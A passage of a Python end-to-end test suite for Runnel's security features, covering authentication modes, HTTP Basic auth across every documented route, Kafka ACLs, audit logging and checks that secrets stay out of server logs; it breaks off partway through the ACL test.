"""End-to-end tests of Runnel's security: `--auth`, API keys, HTTP Basic authentication on every route of both
ports, Kafka ACLs (through the v3 ACL API and `runnel acl`), connectors running as their principal, TLS
(TLS_PLAINTEXT, mutual TLS, SIGHUP reload), /metrics and the dashboard's data. Usage:
security.py RUNNEL_BINARY [TEST_NAME...]; prints one line per test and exits non-zero when any fails."""

import base64
import json
import os
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import warnings

import requests
import trustme
import yaml

from rest_proxy import RUNNEL, V2, V2_JSON, Server, run_suite, wait_for

HERE = os.path.dirname(os.path.abspath(__file__))
OPENAPI = os.path.join(HERE, "..", "..", "..", "openapi.yaml")
CHALLENGE = 'Basic realm="Runnel", charset="UTF-8"'
TIMEOUT = 30


# MARK: - Helpers


class Sandbox:
    """A temporary directory for a test's data directories, certificates and files; closing it stops every server
    started in it and removes it (logs included)."""

    def __init__(self):
        self.root = tempfile.mkdtemp(prefix="runnel-sec-")
        self.servers = []

    def path(self, *parts):
        return os.path.join(self.root, *parts)

    def server(self, name="data", extra=(), auth=None, verify=None, env=None, file_roots=None):
        server = Server.__new__(Server)
        self.servers.append(server)  # (before it starts: a server whose first request fails is stopped too)
        roots = {"file_roots": file_roots} if file_roots is not None else {}
        server.__init__(data_dir=self.path(name), extra=list(extra), auth=auth, verify=verify, env=env, **roots)
        return server

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for server in self.servers:
            process = getattr(server, "process", None)
            if process is None:
                continue
            try:
                server.stop()
            except Exception:
                if process.poll() is None:
                    process.kill()
                    process.wait(timeout=30)
        shutil.rmtree(self.root, ignore_errors=True)


def runnel(*args, env=None, check=True, timeout=60, stdin=None):
    """Runs the `runnel` CLI; returns the completed process with text `out` and `err`. The caller's environment is
    kept, minus any RUNNEL_* variable that could leak in from the machine."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("RUNNEL_")}
    process = subprocess.run([RUNNEL, *args], input=stdin, capture_output=True, timeout=timeout,
                             env={**base, **(env or {})})
    process.out = process.stdout.decode("utf-8", "replace")
    process.err = process.stderr.decode("utf-8", "replace")
    if check:
        assert process.returncode == 0, f"runnel {' '.join(args)} exited {process.returncode}: {process.err}{process.out}"
    return process


def offline_key(data_dir, super_user=False, description=""):
    """`runnel api-key create --data-dir` (no server): the new key as JSON."""
    args = ["api-key", "create", "--data-dir", data_dir, "--description", description, "-o", "json"]
    return json.loads(runnel(*args, *(["--super-user"] if super_user else [])).out)


def creds(key):
    return (key["key"], key["secret"])


def env_for(server, key, ca=None):
    """The environment the CLI authenticates with (variables, so no secret is on a command line)."""
    env = {"RUNNEL_URL": server.url, "RUNNEL_API_KEY": key["key"], "RUNNEL_API_SECRET": key["secret"]}
    if ca:
        env["RUNNEL_CA_CERT"] = ca
    return env


def call(method, url, auth=None, verify=True, **kwargs):
    return requests.request(method, url, auth=auth, verify=verify, timeout=TIMEOUT, **kwargs)


def error_code(response):
    try:
        body = response.json()
    except ValueError:
        return None
    return body.get("error_code") if isinstance(body, dict) else None


def expect(response, status, code=None, what=""):
    assert response.status_code == status, (
        f"{what}: expected {status}, got {response.status_code} for {response.request.method} {response.url}: "
        f"{response.text[:500]}")
    if code is not None:
        assert error_code(response) == code, f"{what}: expected error_code {code}: {response.text[:500]}"
        assert isinstance(response.json().get("message"), str) and response.json()["message"], response.text


def expect_401(response, code, what=""):
    expect(response, 401, code, what)
    assert response.headers.get("WWW-Authenticate") == CHALLENGE, (what, response.headers)


def create_topic(server, auth, name, partitions=1):
    response = call("POST", server.v3 + "/topics", auth, json={"topic_name": name, "partitions_count": partitions})
    expect(response, 201, what=f"create topic {name}")


def produce_v2(server, auth, topic, values):
    return call("POST", f"{server.url}/topics/{topic}", auth, headers={"Content-Type": V2_JSON},
                data=json.dumps({"records": [{"value": v} for v in values]}))


def produce_v3(server, auth, topic, value):
    return call("POST", f"{server.v3}/topics/{topic}/records", auth, json={"value": {"type": "JSON", "data": value}})


def v3_produced(response):
    """Whether a one-record v3 produce was written: a 200 whose delivery report has error_code 200."""
    if response.status_code != 200:
        return False
    reports = [json.loads(line) for line in response.text.splitlines() if line.strip()]
    return len(reports) == 1 and reports[0].get("error_code") == 200


def expect_v3_denied(response, what):
    """A one-record v3 produce refused by an ACL: 403 (40301) before the stream when the topic may not even be
    described, or, once the stream is accepted, a delivery report with error_code 40301 (records are streamed)."""
    if response.status_code == 403:
        assert error_code(response) == 40301, (what, response.text)
        return
    assert response.status_code == 200, (what, response.status_code, response.text)
    reports = [json.loads(line) for line in response.text.splitlines() if line.strip()]
    assert [r.get("error_code") for r in reports] == [40301], (what, response.text)


def read_v3(server, auth, topic, partition=0, offset=0):
    return call("GET", f"{server.v3}/topics/{topic}/partitions/{partition}/records", auth,
                params={"offset": offset, "timeout": 200})


def acl(principal, operation, resource_type="TOPIC", name="", pattern="LITERAL", permission="ALLOW", host="*"):
    return {"resource_type": resource_type, "resource_name": name, "pattern_type": pattern, "principal": principal,
            "host": host, "operation": operation, "permission": permission}


def add_acl(server, admin, *bindings):
    for binding in bindings:
        response = call("POST", server.v3 + "/acls", admin, json=binding)
        expect(response, 201, what=f"create ACL {binding}")


def list_acls(server, auth, **filters):
    response = call("GET", server.v3 + "/acls", auth, params=filters)
    expect(response, 200, what=f"list ACLs {filters}")
    return response.json()["data"]


def v2_topics(server, auth):
    response = call("GET", server.url + "/topics", auth)
    expect(response, 200, what="GET /topics")
    return response.json()


def v3_topics(server, auth):
    response = call("GET", server.v3 + "/topics", auth)
    expect(response, 200, what="GET v3 topics")
    return sorted(t["topic_name"] for t in response.json()["data"] if not t["is_internal"])


def v2_consumer(server, auth, group, name):
    response = call("POST", f"{server.url}/consumers/{group}", auth, headers={"Content-Type": V2},
                    data=json.dumps({"name": name, "format": "json", "auto.offset.reset": "earliest"}))
    expect(response, 200, what=f"create consumer {group}/{name}")
    return response.json()["base_uri"]


def v2_post(url, auth, body):
    return call("POST", url, auth, headers={"Content-Type": V2}, data=json.dumps(body))


def v2_records(base, auth, timeout=300):
    return call("GET", base + "/records", auth, headers={"Accept": V2_JSON}, params={"timeout": timeout})


def audit_lines(server, message):
    return [line for line in server.log_text().splitlines() if "runnel.audit" in line and message in line]


def wait_for_audit(server, message, *needles, seconds=10):
    """An audit line with `message` and every needle (the log is written asynchronously)."""
    return wait_for(lambda: [l for l in audit_lines(server, message) if all(n in l for n in needles)], seconds,
                    f"audit line {message!r} with {needles}")


class Later:
    """Checks made one after another, all of them, before the first failure is raised (with every other)."""

    def __init__(self):
        self.failures = []

    def check(self, condition, message):
        if not condition:
            self.failures.append(message)

    def expect(self, response, status, code=None, what=""):
        try:
            expect(response, status, code, what)
        except AssertionError as error:
            self.failures.append(str(error))

    def done(self):
        if self.failures:
            raise AssertionError(f"{len(self.failures)} checks failed:\n" + "\n".join(self.failures))


def listening_line(text):
    lines = [line for line in text.splitlines() if "Runnel is listening" in line]
    return lines[-1] if lines else ""


# MARK: - --auth


def serve_refusal(root, *extra, env=None):
    data = os.path.join(root, "refused-" + str(len(os.listdir(root))))
    process = runnel("serve", "--data-dir", data, "--proxy-port", "0", "--connect-port", "0", *extra, env=env,
                     check=False, timeout=60)
    return data, process


def test_auth_modes():
    """Without an API key, required authentication refuses to start (and says how to make the first key); `--auth
    off` and `--auth auto` on loopback serve without authentication; `auto` on 0.0.0.0 requires it."""
    with Sandbox() as box:
        for extra, env in [(["--auth", "required"], None), (["--auth", "auto", "--host", "0.0.0.0"], None),
                           (["--host", "0.0.0.0"], None), ([], {"RUNNEL_AUTH": "required"})]:
            data, process = serve_refusal(box.root, *extra, env=env)
            text = process.out + process.err
            assert process.returncode != 0, f"serve {extra} {env} started without an API key: {text[-2000:]}"
            assert f"runnel api-key create --data-dir {data} --super-user" in text, text[-2000:]
            assert "Runnel is listening" not in text, text[-2000:]

        # --auth off on loopback: started, says so, serves without credentials.
        off = box.server("off", extra=["--auth", "off"])
        line = listening_line(off.log_text())
        assert "auth=off (" in line and "encryption=PLAINTEXT" in line, line
        expect(call("GET", off.url + "/topics"), 200)
        expect(call("GET", off.connect + "/connectors"), 200)
        off.stop()

        # The default (auto) on 127.0.0.1 is off, even with keys in the data directory.
        auto_dir = box.path("auto")
        offline_key(auto_dir, super_user=True)
        auto = box.server("auto")
        assert "auth=off (" in listening_line(auto.log_text()), listening_line(auto.log_text())
        expect(call("GET", auto.url + "/topics"), 200)
        auto.stop()

        # auto on 0.0.0.0 with a key: required.
        admin = offline_key(box.path("wide"), super_user=True)
        wide = box.server("wide", extra=["--host", "0.0.0.0"], auth=creds(admin))
        line = listening_line(wide.log_text())
        assert "auth=required" in line, line
        url = wide.url.replace("0.0.0.0", "127.0.0.1")
        expect_401(call("GET", url + "/topics"), 40101)
        expect(call("GET", url + "/topics", creds(admin)), 200)
        wide.stop()

        # --auth off on a non-loopback address starts, with a warning.
        open_wide = box.server("open-wide", extra=["--auth", "off", "--host", "0.0.0.0"])
        assert "Authentication is off on a non-loopback address" in open_wide.log_text(), open_wide.log_text()[-2000:]
        assert "auth=off (" in listening_line(open_wide.log_text())


# MARK: - Every route


def spec_routes():
    """(port, method, template, operation) for every operation of openapi.yaml on the port(s) its tags name; the
    `/connect/...` path items (which `$ref` the connect port's) on the proxy port."""
    with open(OPENAPI) as file:
        spec = yaml.safe_load(file)
    paths = spec["paths"]
    routes = []
    for template, item in paths.items():
        mounted = None
        if "$ref" in item:
            item = paths[item["$ref"].split("/")[-1].replace("~1", "/").replace("~0", "~")]
            mounted = "proxy"
        for method, op in item.items():
            if method not in ("get", "put", "post", "patch", "delete", "head"):
                continue
            ports = [mounted] if mounted else [p for p in ("proxy", "connect") if p in op.get("tags", [])]
            assert ports, (template, method, op.get("tags"))
            for port in ports:
                routes.append((port, method.upper(), template, op))
    return routes


def kind(port, template):
    """Which error convention a route follows: the connect API's (error_code = HTTP status) on the connect port and
    under /connect on the proxy port, Confluent's otherwise."""
    return "connect" if port == "connect" or template == "/connect" or template.startswith("/connect/") else "proxy"


# Routes a key with no ACLs may use: they need only authentication. (port, method, template) -> reason.
AUTHENTICATED_ONLY = {
    ("proxy", "GET", "/"): "liveness document {}",
    ("proxy", "POST", "/"): "liveness document {}",
    ("proxy", "GET", "/openapi.yaml"): "API description",
    ("connect", "GET", "/openapi.yaml"): "API description",
    ("proxy", "GET", "/ui"): "dashboard asset",
    ("proxy", "GET", "/ui/{asset}"): "dashboard asset",
    ("proxy", "GET", "/brokers"): "broker metadata",
    ("proxy", "GET", "/v3/clusters"): "cluster metadata",
    ("proxy", "GET", "/v3/clusters/{cluster_id}"): "cluster metadata",
    ("proxy", "GET", "/v3/clusters/{cluster_id}/brokers"): "broker metadata",
    ("proxy", "GET", "/v3/clusters/{cluster_id}/brokers/{broker_id}"): "broker metadata",
    ("proxy", "POST", "/consumers/{group_name}"): "creating a v2 consumer instance",
    **{(port, "GET", (prefix + path).rstrip("/") or "/"): reason
       for port, prefix in (("connect", ""), ("proxy", "/connect"))
       for path, reason in (("/", "the worker's version"), ("/health", "the worker's health"),
                            ("/connector-plugins", "the plugins built in"),
                            ("/connector-plugins/{plugin}/config", "a plugin's config definition"))},
}
# List routes: a key with no ACLs gets an empty list (and no name of anything it may not describe).
EMPTY_LISTS = {
    ("proxy", "GET", "/topics"): lambda body: body == [],
    ("proxy", "GET", "/v3/clusters/{cluster_id}/topics"): lambda body: body["data"] == [],
    ("proxy", "GET", "/v3/clusters/{cluster_id}/consumer-groups"): lambda body: body["data"] == [],
    ("proxy", "GET", "/v3/clusters/{cluster_id}/brokers/{broker_id}/partition-replicas"):
        lambda body: body["data"] == [],
    ("proxy", "GET", "/v3/clusters/{cluster_id}/topics/-/configs"): lambda body: body["data"] == [],
    ("proxy", "GET", "/v3/clusters/{cluster_id}/topics/-/partitions/-/reassignment"): lambda body: body["data"] == [],
    ("connect", "GET", "/connectors"): lambda body: body == [],
    ("proxy", "GET", "/connect/connectors"): lambda body: body == [],
}
# The v2 consumer instance's own state (its subscription as the key set it, deleting it) needs only authentication
# when the instance is the caller's own. Assigning a partition needs DESCRIBE on its topic (403 like the rest);
# seeking needs an assignment, which this key cannot get, so it is refused as an illegal state (409, 40903) before any
# topic is looked at. Reading records, committing and reading committed offsets need READ (DESCRIBE) on the group.
OWN_INSTANCE = {
    ("POST", "/consumers/{group_name}/instances/{instance}/subscription"): {204},
    ("GET", "/consumers/{group_name}/instances/{instance}/subscription"): {200},
    ("DELETE", "/consumers/{group_name}/instances/{instance}/subscription"): {204},
    ("GET", "/consumers/{group_name}/instances/{instance}/assignments"): {200},
    ("POST", "/consumers/{group_name}/instances/{instance}/positions"): {409},
    ("POST", "/consumers/{group_name}/instances/{instance}/positions/beginning"): {409},
    ("POST", "/consumers/{group_name}/instances/{instance}/positions/end"): {409},
    ("DELETE", "/consumers/{group_name}/instances/{instance}"): {204},
}


class Walk:
    """The resources the route walk substitutes into paths, made as the admin first."""

    def __init__(self, box, server, admin, nobody, victim):
        self.box, self.server, self.admin, self.nobody, self.victim = box, server, admin, nobody, victim
        self.counter = 0
        self.topic = "walk-topic"
        self.group = "walk-group"
        self.connector = "walk-conn"
        create_topic(server, creds(admin), self.topic)
        create_topic(server, creds(admin), "walk-doomed")
        expect(produce_v2(server, creds(admin), self.topic, [{"n": 1}, {"n": 2}]), 200)
        # The admin's consumer instance, in the group, so the v3 group routes have a member.
        self.admin_instance = "admin-inst"
        base = v2_consumer(server, creds(admin), self.group, self.admin_instance)
        expect(v2_post(base + "/subscription", creds(admin), {"topics": [self.topic]}), 204)
        wait_for(lambda: v2_records(base, creds(admin)).json(), 20, "the admin's consumer to read")
        self.admin_base = base
        self.rejoin()
        expect(v2_post(base + "/offsets", creds(admin),
                       {"offsets": [{"topic": self.topic, "partition": 0, "offset": 1}]}), 200)
        # The key with no ACLs has its own instance in the same group.
        self.nobody_instance = "nobody-inst"
        v2_consumer(server, creds(nobody), self.group, self.nobody_instance)
        self.source_file = box.path("walk-source.txt")
        with open(self.source_file, "w") as file:
            file.write("one\ntwo\n")
        response = call("POST", server.connect + "/connectors", creds(admin), json={
            "name": self.connector, "config": self.connector_config()})
        expect(response, 201, what="create the walk's connector")
        wait_for(lambda: call("GET", f"{server.connect}/connectors/{self.connector}/status", creds(admin))
                 .json().get("tasks"), 30, "the walk connector's task")
        plugins = call("GET", server.connect + "/connector-plugins", creds(admin)).json()
        self.plugin = next(p["class"] for p in plugins if "FileStreamSource" in p["class"])
        loggers = call("GET", server.connect + "/admin/loggers", creds(admin)).json()
        self.logger = sorted(loggers)[0] if loggers else "org.apache.kafka.connect"
        self.logger_level = (loggers.get(self.logger) or {}).get("level", "INFO") if loggers else "INFO"
        broker_configs = call("GET", f"{server.v3}/brokers/1/configs", creds(admin)).json()["data"]
        self.broker_config = broker_configs[0]["name"]
        # A quota for a principal nobody uses (a server without quota routes answers 404: the walk reports it).
        self.quota_principal = "User:walk-quota"
        call("PUT", f"{server.url}/security/quotas/{urllib.parse.quote(self.quota_principal, safe='')}",
             creds(admin), json=self.quota())

    @staticmethod
    def quota():
        return {"producer_byte_rate": 100 << 20, "consumer_byte_rate": 100 << 20}

    def rejoin(self):
        """Polls the admin's instance (so it is a member of the group again after a pause) and notes its id."""
        def member():
            v2_records(self.admin_base, creds(self.admin))
            members = call("GET", f"{self.server.v3}/consumer-groups/{self.group}/consumers", creds(self.admin))
            return members.json()["data"]
        self.consumer_id = wait_for(member, 20, "the admin's consumer in its group")[0]["consumer_id"]

    def connector_config(self, topic=None):
        return {"connector.class": "FileStreamSource", "tasks.max": "1", "file": self.source_file,
                "topic": topic or self.topic}

    def unique(self, prefix):
        self.counter += 1
        return f"{prefix}-{self.counter}"

    def path(self, template, who, foreign_instance=False):
        if "/configs/{name}" in template and "/topics/" in template:
            config = "retention.ms"
        else:
            config = self.broker_config
        own = self.nobody_instance if who == "nobody" else self.admin_instance
        if "{consumer_id}" in template and who == "admin":
            self.rejoin()  # (re-subscribing the instance earlier in the walk gave it a new member id)
        values = {
            "cluster_id": self.server.cluster, "topic_name": self.topic, "partition_id": "0", "broker_id": "1",
            "name": config, "group_name": self.group, "consumer_group_id": self.group,
            "instance": self.admin_instance if foreign_instance else own, "consumer_id": self.consumer_id,
            "key": self.victim["key"], "asset": "app.js", "connector": self.connector, "task": "0",
            "plugin": self.plugin, "logger": self.logger, "principal": self.quota_principal,
        }
        path = template
        for name, value in values.items():
            path = path.replace("{" + name + "}", urllib.parse.quote(value, safe=""))
        assert "{" not in path, path
        return path

    def request(self, method, template, who):
        """The keyword arguments of a valid request for the operation (so only authorization can refuse it)."""
        t = template.removeprefix("/connect") if template.startswith("/connect/") else template
        topic, partition = self.topic, [{"topic": self.topic, "partition": 0}]
        v2 = {"Content-Type": V2}
        if (method, t) == ("POST", "/"):
            return {"json": {}}
        if method == "POST" and t.startswith("/topics/"):
            return {"headers": {"Content-Type": V2_JSON}, "data": json.dumps({"records": [{"value": {"walk": who}}]})}
        if (method, t) == ("POST", "/consumers/{group_name}"):
            return {"headers": v2, "data": json.dumps({"name": self.unique(f"walk-{who}"), "format": "json"})}
        if t.endswith("/subscription") and method == "POST":
            return {"headers": v2, "data": json.dumps({"topics": [topic]})}
        if t.endswith("/assignments") and method == "POST":
            return {"headers": v2, "data": json.dumps({"partitions": partition})}
        if t.endswith("/positions"):
            return {"headers": v2, "data": json.dumps({"offsets": [{**partition[0], "offset": 0}]})}
        if t.endswith("/positions/beginning") or t.endswith("/positions/end"):
            return {"headers": v2, "data": json.dumps({"partitions": partition})}
        if t.endswith("/instances/{instance}/records"):
            return {"headers": {"Accept": V2_JSON}, "params": {"timeout": 100}}
        if t.endswith("/instances/{instance}/offsets") and method == "POST":
            return {"headers": v2, "data": json.dumps({"offsets": [{**partition[0], "offset": 1}]})}
        if t.endswith("/instances/{instance}/offsets") and method == "GET":
            return {"headers": v2, "data": json.dumps({"partitions": partition})}
        if (method, t) == ("POST", "/v3/clusters/{cluster_id}/topics"):
            return {"json": {"topic_name": self.unique(f"walk-new-{who}"), "partitions_count": 1}}
        if (method, t) == ("PATCH", "/v3/clusters/{cluster_id}/topics/{topic_name}"):
            count = len(call("GET", f"{self.server.v3}/topics/{topic}/partitions", creds(self.admin)).json()["data"])
            return {"json": {"partitions_count": count + 1}}
        if t.endswith("/configs:alter"):
            return {"json": {"data": [{"name": "retention.ms", "value": "3600000"}]}}
        if method == "PUT" and t.endswith("/configs/{name}"):
            return {"json": {"value": "7200000"}}
        if t.endswith("/records") and method == "POST":
            return {"json": {"value": {"type": "JSON", "data": {"walk": who}}}}
        if t.endswith("/records:batch"):
            return {"json": {"entries": [{"id": "1", "value": {"type": "JSON", "data": {"walk": who}}}]}}
        if t.endswith("/partitions/{partition_id}/records"):
            return {"params": {"offset": 0, "timeout": 100}}
        if (method, t) == ("POST", "/v3/clusters/{cluster_id}/acls"):
            return {"json": acl("User:walk-other", "READ", name=self.unique("walk-acl"))}
        if t.endswith("/acls:batch"):
            return {"json": {"data": [acl("User:walk-other", "WRITE", name=self.unique("walk-acl"))]}}
        if (method, t) == ("DELETE", "/v3/clusters/{cluster_id}/acls"):
            return {"params": {"resource_type": "TOPIC", "pattern_type": "ANY", "principal": "User:walk-other",
                               "operation": "ANY", "permission": "ANY"}}
        if (method, t) == ("POST", "/security/api-keys"):
            return {"json": {"description": f"made in the walk by {who}", "super_user": False}}
        if (method, t) == ("POST", "/connectors"):
            return {"json": {"name": self.unique(f"walk-conn-{who}"), "config": self.connector_config()}}
        if (method, t) == ("PUT", "/connectors/{connector}/config"):
            return {"json": self.connector_config()}
        if (method, t) == ("PATCH", "/connectors/{connector}/config"):
            return {"json": {"tasks.max": "1"}}
        if (method, t) == ("PATCH", "/connectors/{connector}/offsets"):
            return {"json": {"offsets": [{"partition": {"filename": self.source_file},
                                          "offset": {"position": 0}}]}}
        if t.endswith("/config/validate"):
            return {"json": self.connector_config()}
        if (method, t) == ("PUT", "/security/quotas/{principal}"):
            return {"json": self.quota()}
        if (method, t) == ("PUT", "/admin/loggers/{logger}"):
            return {"json": {"level": self.logger_level}}
        return {}


def walk_order(routes):
    """Reads and writes first, then deletions, the deepest paths first (a topic's config before the topic, a
    subscription before its instance) and the connector last."""
    def key(route):
        _, method, template, _ = route
        if method != "DELETE":
            # Stopping the connector (which its offsets need) after the routes of its running tasks.
            late = template.endswith("/stop") or template.endswith("/offsets") and "/connectors/" in template
            return (1 if late else 0, 0, 0)
        depth = template.count("/")
        return (2, 1 if "/connectors/{connector}" == template.removeprefix("/connect") else 0, -depth)
    return sorted(routes, key=key)


def test_route_walk():
    """Every operation of openapi.yaml, on the port(s) its tags name: 401 without credentials or with a wrong secret,
    403 for a key without ACLs (but for the few routes that need only authentication, and lists that come back
    empty), and neither 401/403 nor 5xx for a super user."""
    with Sandbox() as box:
        admin = offline_key(box.path("data"), super_user=True, description="admin")
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        nobody = call("POST", server.url + "/security/api-keys", creds(admin), json={"description": "nobody"}).json()
        victim = call("POST", server.url + "/security/api-keys", creds(admin), json={"description": "victim"}).json()
        walk = Walk(box, server, admin, nobody, victim)
        routes = walk_order(spec_routes())
        assert len(routes) > 100, len(routes)
        base = {"proxy": server.url, "connect": server.connect}
        rows, problems = [], []
        secret_names = [walk.topic, walk.group, walk.connector, "__consumer_offsets", admin["key"], victim["key"],
                        "walk-doomed"]

        def send(who, auth, port, method, template, foreign=False, headers=None):
            kwargs = walk.request(method, template, who)
            if headers:
                kwargs["headers"] = {**kwargs.get("headers", {}), **headers}
            path = walk.path(template, who, foreign)
            try:
                response = call(method, base[port] + path, auth, **kwargs)
            except requests.RequestException as error:
                rows.append((who, port, method, path, "EXC", "", str(error)[:80]))
                problems.append(rows[-1])
                return None
            return path, response

        def record(who, port, method, path, response, problem):
            row = (who, port, method, path, response.status_code, error_code(response) or "",
                   problem or "")
            rows.append(row)
            if problem:
                problems.append(row + (response.text[:300].replace("\n", " "),))

        # 1. No credentials, a wrong secret, an unknown key, a header that is not Basic: 401 everywhere.
        bad = [("anonymous", None, None), ("wrong-secret", (nobody["key"], "x" * 64), None),
               ("unknown-key", ("NOSUCHKEY0000000", "y" * 64), None),
               ("bearer", None, {"Authorization": "Bearer " + nobody["secret"]}),
               ("garbled", None, {"Authorization": "Basic %%%not-base64"})]
        for who, auth, headers in bad:
            for port, method, template, _ in routes:
                sent = send(who, auth, port, method, template, headers=headers)
                if not sent:
                    continue
                path, response = sent
                want = 401 if kind(port, template) == "connect" else 40101
                problem = None
                if response.status_code == 429 and who in ("wrong-secret", "unknown-key"):
                    # Past ten failures for the key or from the address, failures are throttled, not checked.
                    if error_code(response) != 429 or not response.headers.get("Retry-After"):
                        problem = "a throttled failure without error_code 429 and Retry-After"
                    if problem:
                        record(who, port, method, path, response, problem)
                    continue
                if response.status_code != 401:
                    problem = f"want 401, got {response.status_code}"
                elif error_code(response) != want:
                    problem = f"want error_code {want}"
                elif response.headers.get("WWW-Authenticate") != CHALLENGE:
                    problem = f"WWW-Authenticate {response.headers.get('WWW-Authenticate')!r}"
                if who in ("anonymous", "wrong-secret") or problem:
                    record(who, port, method, path, response, problem)

        # 2. A key without ACLs.
        for port, method, template, _ in routes:
            sent = send("nobody", creds(nobody), port, method, template)
            if not sent:
                continue
            path, response = sent
            status, code = response.status_code, error_code(response)
            want_code = 403 if kind(port, template) == "connect" else 40301
            # A name the request itself carried may come back (in a refusal's message); no other may.
            sent_text = path + str(response.request.body or "")
            if template.startswith("/consumers/{group_name}/instances/{instance}"):
                # The caller's own instance: the topics it subscribed to are names it gave.
                sent_text += walk.topic
            leaks = [name for name in secret_names if name in response.text and name not in sent_text]
            problem = None
            if (port, method, template) in AUTHENTICATED_ONLY or (port, method, template) in EMPTY_LISTS:
                empty = EMPTY_LISTS.get((port, method, template))
                if not 200 <= status < 300:
                    problem = f"needs only authentication, got {status}"
                elif empty and not empty(response.json()):
                    problem = "list not empty"
                elif leaks and template not in ("/openapi.yaml", "/ui/{asset}", "/ui"):
                    problem = f"leaks {leaks}"
            elif (method, template) in OWN_INSTANCE:
                if status not in OWN_INSTANCE[(method, template)]:
                    problem = f"the caller's own instance: want {OWN_INSTANCE[(method, template)]}, got {status}"
            elif status != 403:
                problem = f"want 403, got {status}"
            elif code != want_code:
                problem = f"want error_code {want_code}"
            elif leaks:
                problem = f"leaks {leaks}"
            record("nobody", port, method, path, response, problem)

        # 2b. The admin's consumer instance is invisible to the key without ACLs: 404 (40403), never 403 or 2xx.
        for port, method, template, _ in routes:
            if not template.startswith("/consumers/{group_name}/instances/{instance}"):
                continue
            sent = send("nobody", creds(nobody), port, method, template, foreign=True)
            if not sent:
                continue
            path, response = sent
            problem = None
            if response.status_code != 404 or error_code(response) != 40403:
                problem = f"another key's instance: want 404/40403, got {response.status_code}/{error_code(response)}"
            record("nobody-foreign", port, method, path, response, problem)
        # ... and still there for the admin.
        expect(call("GET", f"{server.url}/consumers/{walk.group}/instances/{walk.admin_instance}/subscription",
                    creds(admin)), 200, what="the admin's instance after the other key's attempts")

        # 3. The super user: neither 401/403 nor 5xx; a documented route is served (not the router's 404/405).
        walk.rejoin()
        for port, method, template, _ in routes:
            sent = send("admin", creds(admin), port, method, template)
            if not sent:
                continue
            path, response = sent
            status = response.status_code
            problem = None
            if status in (401, 403):
                problem = f"super user refused: {status}"
            elif status >= 500:
                problem = f"server error {status}"
            elif status == 405 or (status == 404 and "HTTP 404 Not Found" in response.text):
                problem = "documented route not served on this port"
            record("admin", port, method, path, response, problem)

        # Every refusal of the key without ACLs, and every failed authentication with its key id, was audited; no
        # secret (not even one sent as a Bearer token) is in the log.
        time.sleep(0.5)
        refused = sum(1 for row in rows if row[0].startswith("nobody") and row[4] == 403)
        denied = [l for l in audit_lines(server, "Access denied") if f"principal={nobody['principal']}" in l]
        wrong = sum(1 for row in rows if row[0] == "wrong-secret" and row[4] == 401)
        failed = [l for l in audit_lines(server, "Authentication failed") if nobody["key"] in l]
        log = server.log_text()
        notes = []
        if len(denied) < refused:
            notes.append(f"{refused} refusals of {nobody['principal']} but {len(denied)} 'Access denied' audit lines")
        if len(failed) < wrong:
            notes.append(f"{wrong} wrong secrets for {nobody['key']} but {len(failed)} 'Authentication failed' lines")
        for secret in (nobody["secret"], victim["secret"], admin["secret"], "x" * 64, "y" * 64):
            if secret in log:
                notes.append(f"a secret is in the server log: {secret[:6]}...")
        if problems or notes:
            table = "\n".join(" | ".join(str(c) for c in row) for row in problems)
            raise AssertionError(f"{len(problems)} of {len(rows)} requests were wrong:\n{table}\n" + "\n".join(notes))


# MARK: - ACLs


def test_acls():
    """ACLs made through the API and the CLI decide produce, consume, listing and administration: literal, prefixed
    and wildcard names, User:*, DENY over ALLOW, implied DESCRIBE (and DESCRIBE_CONFIGS), hosts; the ACL API's
    filters and validation; audit lines; another key's consumer instance is invisible."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True, description="admin")
        user = offline_key(data, description="orders service")
        other = offline_key(data, description="someone else")
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        A, U, O = creds(admin), creds(user), creds(other)
        P = user["principal"]
        assert P == "User:" + user["key"], user
        cli_env = env_for(server, admin)
        for topic in ("orders", "orders-eu", "payments", "secret-topic", "doomed", "tuned"):
            create_topic(server, A, topic)
        expect(produce_v2(server, A, "payments", [{"amount": 1}]), 200)

        # Nothing without ACLs; refusals are 403/40301, audited with principal, operation and resource.
        expect(produce_v2(server, U, "orders", [1]), 403, 40301, "produce without ACLs")
        expect_v3_denied(produce_v3(server, U, "orders", 1), "v3 produce without ACLs")
        assert v2_topics(server, U) == [] and v3_topics(server, U) == []
        wait_for_audit(server, "Access denied", f"principal={P}", "operation=WRITE", "resource_type=TOPIC",
                       "resource_name=orders")

        # ALLOW WRITE through the API: 201, empty body, a Location; produce works (v2 and v3), DESCRIBE is implied.
        response = call("POST", server.v3 + "/acls", A, json=acl(P, "WRITE", name="orders"))
        expect(response, 201, what="create an ACL")
        assert response.text == "" and response.headers.get("Location"), (response.headers, response.text)
        expect(produce_v2(server, U, "orders", [{"n": 1}, {"n": 2}]), 200)
        response = produce_v3(server, U, "orders", {"n": 3})
        assert v3_produced(response), response.text
        expect(produce_v2(server, U, "payments", [1]), 403, 40301, "produce to another topic")
        expect_v3_denied(produce_v3(server, U, "payments", 1), "v3 produce to another topic")
        assert v2_topics(server, U) == ["orders"], v2_topics(server, U)
        assert v3_topics(server, U) == ["orders"], v3_topics(server, U)
        expect(call("GET", server.v3 + "/topics/orders", U), 200)
        # The v2 topic document carries the topic's configs, so it also needs DESCRIBE_CONFIGS (as Confluent's, which
        # asks Kafka for both).
        expect(call("GET", server.url + "/topics/orders", U), 403, 40301, "v2 topic without DESCRIBE_CONFIGS")
        expect(call("GET", server.url + "/topics/orders/partitions", U), 200, what="v2 partitions with DESCRIBE")
        expect(call("GET", server.v3 + "/topics/payments", U), 403, 40301)
        # WRITE does not imply READ.
        expect(read_v3(server, U, "orders"), 403, 40301, "v3 read with WRITE only")

        # Consume with a v2 instance: READ on the topic (CLI) is not enough without READ on the group.
        runnel("acl", "create", "--principal", P, "--operation", "read", "--topic", "orders", env=cli_env)
        base = v2_consumer(server, U, "billing", "u1")
        expect(v2_post(base + "/subscription", U, {"topics": ["orders"]}), 204, what="subscribe")
        expect(v2_records(base, U), 403, 40301, "read without READ on the group")
        wait_for_audit(server, "Access denied", f"principal={P}", "operation=READ", "resource_type=GROUP",
                       "resource_name=billing")
        runnel("acl", "create", "--principal", P, "--operation", "read", "--group", "billing", env=cli_env)
        # (The instance refused before the grant is checked at the end: it must read now too.)
        refused_before_grant = base
